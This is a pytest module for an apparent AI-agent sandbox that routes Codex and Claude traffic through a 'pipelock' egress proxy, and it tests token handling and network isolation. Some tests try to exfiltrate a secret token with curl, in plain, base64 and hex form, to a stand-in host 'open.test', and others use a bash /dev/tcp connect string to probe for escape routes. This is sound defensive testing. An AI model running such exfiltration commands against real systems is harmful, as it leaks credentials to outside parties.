"""Bottles with pipelock on each runtime: turns of the real agents, canaries, and no way round it.

The real pipelock where this machine has it, else the stand-in; `test_pipelock.py` holds both to the same.
"""

import base64
import json
import os
import signal
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from bottlegen.errors import RuntimeFailure
from bottlegen.sidecars.pipelock import EVENTS
from runtime.findings import findings
from runtime.progress import make_progress
from runtime.start import refresh, start
from tests.contract import traces
from tests.contract.bottle import Bottle
from tests.inspection.bottles import Site, site

pytestmark = pytest.mark.agents
CODEX_TURN = ("codex", "exec", "--skip-git-repo-check", "say hi")
CLAUDE_TURN = ("claude", "-p", "say hi")
CONNECT = 'exec 3<>"/dev/tcp/$0/$1"'


@pytest.fixture(
    scope="module",
    params=[
        pytest.param("docker", marks=pytest.mark.engine),
        pytest.param("bubblewrap", marks=pytest.mark.namespaces),
    ],
)
def place(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with site(request.param, tmp_path_factory.mktemp("site")) as made:
        yield made


@pytest.fixture(scope="module")
def codex(place: Site) -> Iterator[Bottle]:
    """One for the module: nothing here changes it."""
    with place.bottle("codex") as made:
        yield made


def _asked(bottle: Bottle, *arguments: str) -> str:
    status, said = bottle.run("curl", "-sS", "--max-time", "20", *arguments)
    assert status == 0, said
    return said


def test_codex_takes_a_turn(place: Site, codex: Bottle) -> None:
    status, said = codex.run(*CODEX_TURN)
    assert status == 0, said
    assert place.provider.pretence.reply in said
    turns = [seen for seen in place.provider.to("chatgpt.com") if seen.method == "POST" and "responses" in seen.path]
    assert {seen.header("authorization") for seen in turns} == {f"Bearer {place.login.access_token}"}


def test_claude_takes_a_turn(place: Site) -> None:
    with place.bottle("claude") as bottle:
        status, said = bottle.run(*CLAUDE_TURN)
    assert status == 0, said
    assert place.provider.pretence.reply in said
    turns = [seen for seen in place.provider.to("api.anthropic.com") if seen.path.startswith("/v1/messages")]
    assert {seen.header("authorization") for seen in turns} == {f"Bearer {place.host.env['CLAUDE_TOKEN']}"}


def test_the_token_goes_out_where_it_is_injected_and_nowhere_else(place: Site, codex: Bottle) -> None:
    token = place.host.env["API_TOKEN"]
    assert "pretend api.test" in _asked(codex, "https://api.test/")
    assert place.provider.to("api.test")[-1].header("authorization") == f"Bearer {token}"
    seen = len(place.provider.seen)
    for arguments in (
        ("-d", f"x={token}", "https://open.test/"),
        ("-d", base64.b64encode(token.encode()).decode(), "https://open.test/"),
        ("-H", f"x-note: {token.encode().hex()}", "https://open.test/"),
        ("-H", f"authorization: Bearer {token}", "https://open.test/"),
        (f"https://open.test/?x={token}",),
        (f"https://api.test/?x={token}",),  # in the path the audit log would have it, as what the agent asked for
    ):
        assert "blocked: " in _asked(codex, *arguments), arguments
    assert len(place.provider.seen) == seen
    assert "pretend open.test" in _asked(codex, "-d", "x=nothing", "https://open.test/?x=nothing")
    assert "pretend passed.test" in _asked(codex, "https://passed.test/")


def test_no_trace_of_the_tokens(place: Site, codex: Bottle) -> None:
    """As for bottles without pipelock, which knows the values so that it finds them: in its memory alone."""
    _asked(codex, "https://api.test/")
    needles = [text.encode() for text in (*place.login.secrets, place.host.env["API_TOKEN"])]
    if place.engine:
        found = traces.found_in_container(place.engine, codex.name, needles, place.began)
    else:
        found = traces.said_on_host(needles)
    assert found == []
    assert traces.found_on_host(place.engine, [place.state], needles, place.began) == []


def test_a_secret_that_was_refused_is_not_on_disk_either(place: Site, codex: Bottle) -> None:
    """What the agent itself had: pipelock quotes it where nothing is kept."""
    needle = "ghp_" + "9876543210jihgfedcbaJIHGFEDCBA987654"
    assert "blocked: " in _asked(codex, f"https://open.test/?x={needle}")
    told = list(findings(place.runtime.read(codex.name, "pipelock", EVENTS), codex.spec.bundle))
    assert (told[-1].decision, told[-1].host, told[-1].scanner[-3:]) == ("deny", "open.test", "dlp")
    with pytest.raises(RuntimeFailure, match="'/tmp/nothing'"):
        place.runtime.read(codex.name, "pipelock", "/tmp/nothing")
    assert traces.found_on_host(place.engine, [place.state], [needle.encode()], place.began) == []
    if place.engine:
        pipelock = _container(place, codex, "pipelock")
        assert needle.encode() not in pipelock.logs()


def _container(place: Site, bottle: Bottle, service: str) -> Any:
    found = place.engine.containers.list(filters={"label": f"bottlegen.bottle={bottle.name}"})
    return next(item for item in found if item.labels["bottlegen.service"] == service)


def _pid(place: Site, bottle: Bottle, service: str) -> int:
    """The service's process in bubblewrap, seen from this host: the last child of its keeper's."""
    known = next(place.state.rglob(f"{bottle.name}/services/{service}/running"))
    pid = int(json.loads(known.read_text())[0]["pid"])
    while children := Path(f"/proc/{pid}/task/{pid}/children").read_text().split():
        pid = int(children[-1])
    return pid


def _interfaces(pid: int) -> set[str]:
    lines = Path(f"/proc/{pid}/net/dev").read_text().splitlines()[2:]
    return {line.partition(":")[0].strip() for line in lines}


def _leads_out(place: Site, bottle: Bottle, service: str) -> bool:
    """Whether any network of the container is one that the engine joins to others."""
    networks = _container(place, bottle, service).attrs["NetworkSettings"]["Networks"]
    return not all(place.engine.networks.get(name).attrs["Internal"] for name in networks)


def test_egress_has_no_way_out_but_pipelock(place: Site, codex: Bottle) -> None:
    if place.engine:
        for service, reached in (("egress", False), ("pipelock", True)):
            assert _leads_out(place, codex, service) is reached
            container = _container(place, codex, service)
            tried = container.exec_run(["timeout", "2", "bash", "-c", CONNECT, place.address, "443"])
            assert (tried.exit_code == 0) is reached, service
    else:
        egress, pipelock = (_pid(place, codex, service) for service in ("egress", "pipelock"))
        assert _interfaces(egress) == {"lo"}
        assert _interfaces(pipelock) == _interfaces(os.getpid())
        assert Path(f"/proc/{egress}/ns/net").readlink() != Path("/proc/self/ns/net").readlink()


def test_the_agent_does_not_reach_pipelock(place: Site, codex: Bottle) -> None:
    if place.engine:
        there = _container(place, codex, "pipelock").attrs["NetworkSettings"]["Networks"]
        addresses = [network["IPAddress"] for network in there.values()]
        assert len(addresses) == 2
        egress = _container(place, codex, "egress")
        tried = [
            egress.exec_run(["timeout", "2", "bash", "-c", CONNECT, address, "8888"]).exit_code for address in addresses
        ]
        assert 0 in tried  # the control
    else:
        addresses = ["127.0.0.1"]
        known = {path.name for path in place.state.rglob(f"{codex.name}/sockets/**/*") if path.is_socket()}
        assert known == {"443", "3128", "8888"}  # the control: of both networks
        sockets = codex.run("find", "/run", "/tmp", "/var", "/home", "/opt", "-type", "s")[1].splitlines()
        assert {Path(line).name for line in sockets if "denied" not in line} >= {"443", "3128"}
        assert not [line for line in sockets if line.endswith("8888")]
    for address in addresses:
        assert codex.run("timeout", "2", "bash", "-c", CONNECT, address, "8888")[0] != 0
    assert codex.run("timeout", "2", "bash", "-c", CONNECT, "egress", "3128")[0] == 0
    assert codex.run("getent", "hosts", "pipelock")[0] != 0


@pytest.fixture(scope="module")
def shell(place: Site) -> Iterator[Bottle]:
    """One with a git remote; the last test here that uses it ends its pipelock."""
    with place.bottle("shell") as made:
        yield made


def test_a_refreshed_value_is_looked_for(place: Site, shell: Bottle) -> None:
    token = f"api-token-of-tomorrow-{place.login.canary}"
    host = replace(place.host, env={**place.host.env, "API_TOKEN": token})
    refresh(shell.spec.bundle, shell.name, place.runtime, host)
    end = time.monotonic() + 30
    while "blocked: " not in _asked(shell, "-d", f"x={token}", "https://open.test/"):
        assert time.monotonic() < end
        time.sleep(0.1)
    assert "pretend api.test" in _asked(shell, "https://api.test/")
    assert place.provider.to("api.test")[-1].header("authorization") == f"Bearer {token}"


def _url(place: Site) -> str:
    return f"https://git.example.com:{place.git.address[1]}/acme/site.git"


def test_the_git_gate_has_no_way_out_but_pipelock(place: Site, shell: Bottle) -> None:
    author = "-c user.name=A -c user.email=a@example.org"
    commit = f"cd ~ && git clone -q {_url(place)} site && cd site && git {author} commit -q --allow-empty -m one"
    status, said = shell.run("bash", "-c", f"{commit} && git push -q origin HEAD:main")
    assert status == 0, said
    new = shell.run("bash", "-c", "git -C ~/site rev-parse HEAD")[1].strip()
    assert (place.git.root / "acme/site.git/refs/heads/main").read_text().strip() == new
    if place.engine:
        assert not _leads_out(place, shell, "git-gate")
        out = ["timeout", "2", "bash", "-c", CONNECT, place.address, str(place.git.address[1])]
        tried = {name: _container(place, shell, name).exec_run(out).exit_code for name in ("git-gate", "pipelock")}
        assert tried["git-gate"] != 0
        assert tried["pipelock"] == 0
    else:
        assert _interfaces(_pid(place, shell, "git-gate")) == {"lo"}


def test_without_pipelock_nothing_gets_out(place: Site, shell: Bottle) -> None:
    """Git says so within seconds, though the address is nobody's any more."""
    hosts = ("https://open.test/", "https://passed.test/", "https://api.test/")
    assert all("pretend" in _asked(shell, url) for url in hosts)
    shell.run("git", "ls-remote", _url(place))
    seen = len(place.provider.seen), len(place.git.seen)
    assert all(seen)
    _kill(place, shell, "pipelock")
    for url in hosts:
        assert "pretend" not in shell.run("curl", "-sS", "--max-time", "3", url)[1]
    began = time.monotonic()
    status, said = shell.run("git", "ls-remote", _url(place))
    assert status
    assert "pipelock, the one way to git.example.com, does not answer" in said
    assert time.monotonic() - began < 30
    assert (len(place.provider.seen), len(place.git.seen)) == seen


def test_a_pipelock_that_does_not_start_takes_the_bottle_with_it(place: Site) -> None:
    """Its own parser refuses the config: what was made of the bottle until then is gone."""
    spec = place.spec("shell")
    path = "sidecars/pipelock/pipelock.json"
    broken = spec.bundle.files[path].data.replace(b'"mode": "strict"', b'"mode": "permissive"')
    assert broken != spec.bundle.files[path].data
    files = {**spec.bundle.files, path: replace(spec.bundle.files[path], data=broken)}
    spec = replace(spec, bundle=replace(spec.bundle, files=files))
    try:
        with pytest.raises(RuntimeFailure, match="pipelock"):
            start(spec, place.runtime, place.host, make_progress())
    finally:
        left = place.runtime.remove(spec.bottle)
    assert not left
    assert spec.bottle not in {status.bottle for status in place.runtime.list()}
    if place.engine:
        assert place.engine.containers.list(all=True, filters={"label": f"bottlegen.bottle={spec.bottle}"}) == []
        assert place.engine.networks.list(filters={"label": f"bottlegen.bottle={spec.bottle}"}) == []
    else:
        assert not list(place.state.rglob(spec.bottle))


def _kill(place: Site, bottle: Bottle, service: str) -> None:
    if place.engine:
        _container(place, bottle, service).kill()
    else:
        os.kill(_pid(place, bottle, service), signal.SIGKILL)
